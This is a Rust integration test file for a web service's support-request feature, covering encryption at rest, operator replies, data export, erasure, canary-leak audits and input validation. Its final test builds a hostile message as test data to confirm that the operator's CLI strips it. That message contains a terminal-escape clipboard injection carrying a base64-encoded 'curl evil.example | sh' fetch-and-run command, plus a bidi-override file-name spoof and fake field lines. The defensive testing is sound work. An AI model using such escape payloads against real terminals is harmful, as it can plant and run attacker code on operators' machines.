//! Support requests: the form and JSON, sealed at rest, acknowledged with a reference, read
//! and answered by an operator, in the export, gone at erasure.

use pexper_tests::*;
use serde_json::{Value, json};

use crate::waitlist::WAIT;

const MESSAGE: &str = "My licence key canary-support-7731 stopped working after the update.";

async fn post(app: &TestApp, body: Value) -> reqwest::Response {
    app.client
        .post(app.url("/v1/support"))
        .json(&body)
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn a_support_request_is_sealed_acknowledged_answered_exported_and_erased() {
    let app = spawn_app().await;
    let email = "help.me@example.net";
    let res = post(
        &app,
        json!({"email": email, "subject": "Licence", "message": MESSAGE}),
    )
    .await;
    assert_eq!(res.status(), 202);
    assert_eq!(
        res.json::<Value>().await.unwrap(),
        json!({"status": "received"})
    );
    let ack = app.smtp.wait_for(1, WAIT).await[0].clone();
    let subject = ack.header("Subject").unwrap();
    let reference = subject.split(['(', ')']).nth(1).unwrap().to_owned();
    assert!(
        reference.starts_with("S-") && reference.len() == 10,
        "{subject}"
    );
    assert!(ack.part("text/plain").unwrap().contains(&reference));
    let dump = app.db.dump();
    assert!(!dump.contains("canary-support-7731") && !dump.bytea_contains("canary-support-7731"));

    // The operator: the list holds no personal data; the request opens; a reply goes by email.
    let vars = app.cli_vars();
    let cli = |args: &[&str]| {
        let out = admin(&vars, args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        serde_json::from_str::<Value>(&stdout(&out)).unwrap()
    };
    let list = cli(&["support", "list", "--json"]);
    assert_eq!(list[0]["reference"], reference.as_str());
    assert!(!list.to_string().contains(email));
    let shown = cli(&["support", "show", &reference, "--json"]);
    assert_eq!(shown["message"], MESSAGE);
    assert_eq!(shown["subject"], "Licence");
    assert!(shown.get("email").is_none());
    let out = admin(&vars, &["support", "show", &reference, "--email", "--json"]);
    assert!(!out.status.success(), "the address needs a reason");
    let shown = cli(&[
        "support",
        "show",
        &reference,
        "--email",
        "--reason",
        "to answer",
        "--json",
    ]);
    assert_eq!(shown["email"], email);
    let body = app.data_dir.path().join("reply.txt");
    std::fs::write(&body, "Sorry about that.\n\nHere is a new key.").unwrap();
    cli(&[
        "support",
        "reply",
        &reference,
        "--body-file",
        body.to_str().unwrap(),
        "--json",
    ]);
    let reply = app.smtp.wait_for(2, WAIT).await[1].clone();
    assert_eq!(reply.to, vec![format!("<{email}>")]);
    assert!(reply.header("Subject").unwrap().contains(&reference));
    assert!(
        reply
            .part("text/plain")
            .unwrap()
            .contains("Here is a new key.")
    );
    assert!(reply.header("List-Unsubscribe").is_none());
    assert!(!app.db.dump().bytea_contains("Here is a new key."));
    assert_eq!(cli(&["support", "list", "--json"])[0]["status"], "answered");

    // In their export; gone with them.
    let mut conn = app.platform.pool.acquire().await.unwrap();
    let person = pexper_platform::person::find(
        &mut conn,
        &app.platform.keyring,
        &pexper_platform::address::EmailAddress::parse(email).unwrap(),
    )
    .await
    .unwrap()
    .unwrap();
    let registry = pexper_server::personal_data(&app.platform.config);
    let export = registry
        .export(&mut conn, &app.platform.keyring, person)
        .await
        .unwrap();
    let request = &export["support"]["requests"][0];
    assert_eq!(request["message"], MESSAGE);
    assert_eq!(
        request["replies"][0]["body"],
        "Sorry about that.\n\nHere is a new key."
    );
    cli(&["support", "close", &reference, "--json"]);
    let mut tx = app.platform.pool.begin().await.unwrap();
    registry
        .erase(&mut tx, &app.platform.keyring, person)
        .await
        .unwrap();
    tx.commit().await.unwrap();
    assert_eq!(
        app.count("support_request").await + app.count("support_reply").await,
        0
    );
}

#[tokio::test]
async fn bad_support_requests_get_422_naming_the_field_and_forms_get_pages() {
    let app = spawn_app().await;
    for (body, code) in [
        (
            json!({"email": "not-an-address", "message": "hi"}),
            "invalid_email",
        ),
        (
            json!({"email": "a@example.net", "message": "   \n "}),
            "invalid_message",
        ),
        (
            json!({"email": "a@example.net", "message": "x".repeat(10_001)}),
            "invalid_message",
        ),
        (
            json!({"email": "a@example.net", "message": "hi", "subject": "s".repeat(201)}),
            "invalid_subject",
        ),
    ] {
        let res = post(&app, body).await;
        assert_eq!(res.status(), 422);
        assert_eq!(res.json::<Value>().await.unwrap()["error"]["code"], code);
    }
    // The longest message there may be is taken.
    let res = post(
        &app,
        json!({"email": "a@example.net", "message": "é".repeat(10_000)}),
    )
    .await;
    assert_eq!(res.status(), 202);

    // A form post from our site gets a page; from another site, 403; a filled honeypot, the
    // normal answer and nothing stored.
    let form = |origin: &str, fields: &[(&str, &str)]| {
        // The values here need no escaping but `@`.
        let body: Vec<String> = fields
            .iter()
            .map(|(k, v)| format!("{k}={}", v.replace('@', "%40")))
            .collect();
        app.client
            .post(app.url("/v1/support"))
            .header("Origin", origin)
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body.join("&"))
            .send()
    };
    let res = form(
        "https://pexper.com",
        &[("email", "b@example.net"), ("message", "Help")],
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 202);
    assert!(res.text().await.unwrap().contains("id=\"received\""));
    let res = form(
        "https://evil.example",
        &[("email", "c@example.net"), ("message", "Help")],
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 403);
    let res = form(
        "https://pexper.com",
        &[("email", "bad"), ("message", "Help")],
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 422);
    assert!(res.text().await.unwrap().contains("id=\"error\""));
    let res = form(
        "https://pexper.com",
        &[
            ("email", "bot@example.net"),
            ("message", "Buy"),
            ("website", "spam"),
        ],
    )
    .await
    .unwrap();
    assert_eq!(res.status(), 202);
    assert_eq!(
        app.count("support_request").await,
        2,
        "the longest message and the form"
    );
}

/// The canaries of `pexper_tests::canary` that none of these fields may keep in clear.
fn planted(dump: &Dump) -> Vec<&'static str> {
    canary::NEEDLES
        .iter()
        .copied()
        .filter(|n| dump.to_lowercase().contains(n) || dump.bytea_contains(n))
        .collect()
}

#[tokio::test]
async fn the_canary_audit_finds_nothing_of_the_new_fields_in_a_dump_or_the_logs() {
    let server = ServerProcess::start("trace").await;
    let vars: Vec<(String, String)> = server.vars.clone().into_iter().collect();
    // What the operator's terminal shows besides the JSON: searched too.
    let printed = std::sync::Mutex::new(String::new());
    let cli = |args: &[&str]| {
        let out = admin(&vars, args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        printed.lock().unwrap().push_str(&stderr(&out));
        serde_json::from_str::<Value>(&stdout(&out)).unwrap()
    };
    let client = reqwest::Client::new();
    // What a person writes, with every canary in it, from the canary address.
    let res = client
        .post(format!("{}/v1/support", server.base))
        .json(&json!({
            "email": canary::EMAIL,
            "subject": format!("{} {} {}", canary::EMAIL, canary::IPV4, canary::HOSTNAME),
            "message": canary::sentence(),
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 202);
    let ack = server.smtp.wait_for(1, WAIT).await[0].clone();
    let reference = cli(&["support", "list", "--json"])[0]["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    // What an operator writes: a reply and reasons that repeat the canaries.
    let dir = tempdir::TempDir::new();
    let body = dir.path().join("reply.txt");
    std::fs::write(&body, canary::sentence()).unwrap();
    cli(&[
        "support",
        "reply",
        &reference,
        "--body-file",
        body.to_str().unwrap(),
        "--json",
    ]);
    let reason = format!(
        "asked by {} from {} about {} card {}",
        canary::EMAIL,
        canary::IPV4,
        canary::API_KEY,
        canary::CARD
    );
    cli(&[
        "support", "show", &reference, "--email", "--reason", &reason, "--json",
    ]);
    cli(&[
        "waitlist", "export", "--format", "json", "--reason", &reason,
    ]);
    // A bounce report naming the address.
    let report = format!(
        "From: MAILER-DAEMON@mx.example.net\nTo: {}\nMessage-ID: <canary-dsn@mx.example.net>\n\
         MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"r\"\n\n\
         --r\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.net\n\n\
         Final-Recipient: rfc822; {}\nAction: delayed\nStatus: 4.2.2\n\n--r--\n",
        ack.from.trim_matches(['<', '>']),
        canary::EMAIL
    );
    let mbox = dir.path().join("bounces.mbox");
    std::fs::write(
        &mbox,
        format!("From MAILER-DAEMON Mon Nov 30 12:00:00 2026\n{report}\n"),
    )
    .unwrap();
    assert_eq!(
        cli(&["mail", "bounces", mbox.to_str().unwrap(), "--json"])["soft_bounces"],
        1
    );
    server.smtp.wait_for(2, WAIT).await;

    let dump = server.dump();
    assert!(
        dump.bytea_values() > 3,
        "the sealed fields are there, sealed"
    );
    assert_eq!(
        planted(&dump),
        Vec::<&str>::new(),
        "in the database while they are ours"
    );

    // What stands for them where the address itself is sealed: their id and the address's
    // keyed hash. Neither may outlive the erasure.
    let (person_id, index): (uuid::Uuid, Vec<u8>) =
        sqlx::query_as("SELECT id, email_index FROM person")
            .fetch_one(&server.db().pool().await)
            .await
            .unwrap();
    // The operator erases them, giving the same reason.
    cli(&[
        "privacy",
        "erase",
        "--email",
        canary::EMAIL,
        "--reason",
        &reason,
        "--json",
    ]);
    let goodbye = server.smtp.wait_for(3, WAIT).await;
    assert!(goodbye[2].header("Subject").unwrap().contains("deleted"));
    // The person is destroyed once the goodbye is out.
    let pool = server.db().pool().await;
    // The job that destroys them names them until it is done and deleted, a moment after
    // its work commits (a CI run dumped in between).
    eventually(WAIT, "the person to be destroyed", || async {
        let left: i64 = sqlx::query_scalar(
            "SELECT (SELECT count(*) FROM person)
                  + (SELECT count(*) FROM job WHERE person_id = $1 OR payload::text LIKE '%' || $1::text || '%')",
        )
        .bind(person_id)
        .fetch_one(&pool)
        .await
        .unwrap();
        (left == 0).then_some(())
    })
    .await;
    let dump = server.dump();
    assert_eq!(planted(&dump), Vec::<&str>::new(), "after the erasure");
    let id = person_id.to_string();
    assert!(!dump.contains(&id), "their id: {:?}", dump.line_with(&id));
    assert!(
        !dump.contains(&pexper_platform::crypto::hex(&index)),
        "their address's keyed hash"
    );
    assert_eq!(
        canary::found(&printed.lock().unwrap()),
        Vec::<&str>::new(),
        "on the operator's terminal"
    );
    let log = server.stop().await;
    assert!(
        log.contains("support request received"),
        "the log is captured"
    );
    assert_eq!(canary::found(&log), Vec::<&str>::new(), "in the logs");
}

#[tokio::test]
async fn a_message_with_terminal_escapes_reaches_the_operator_as_text_not_as_commands() {
    let app = spawn_app().await;
    // OSC 52 writes the terminal's clipboard; 8-bit CSI clears the screen; a bidi override.
    // And lines of its own made to look like the request's fields.
    let hostile = "Hello\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{9b}2J\u{202e}gnp.exe\n\
                   reference  S-00000000\nstatus     closed";
    let res = post(
        &app,
        json!({"email": "sly@example.net", "subject": "Hi\u{1b}[2J", "message": hostile}),
    )
    .await;
    assert_eq!(res.status(), 202);
    let vars = app.cli_vars();
    let list = admin(&vars, &["support", "list", "--json"]);
    let reference: Value = serde_json::from_str(&stdout(&list)).unwrap();
    let reference = reference[0]["reference"].as_str().unwrap().to_owned();
    for args in [
        vec!["support", "list"],
        vec!["support", "show", &reference],
        vec!["support", "show", &reference, "--json"],
    ] {
        let out = admin(&vars, &args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let shown = stdout(&out);
        assert!(
            !shown
                .chars()
                .any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}'),
            "{args:?} printed a control character: {shown:?}"
        );
        if args.len() > 2 {
            assert!(
                shown.contains("52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="),
                "{shown}"
            );
        }
        // Its own lines cannot pass for fields of the request: they go on indented.
        assert!(
            !shown
                .lines()
                .any(|l| l.starts_with("status ") && l.contains("closed")),
            "{shown}"
        );
    }
    // And the JSON still says exactly what was sent.
    let out = admin(&vars, &["support", "show", &reference, "--json"]);
    let shown: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(shown["message"], hostile);
}
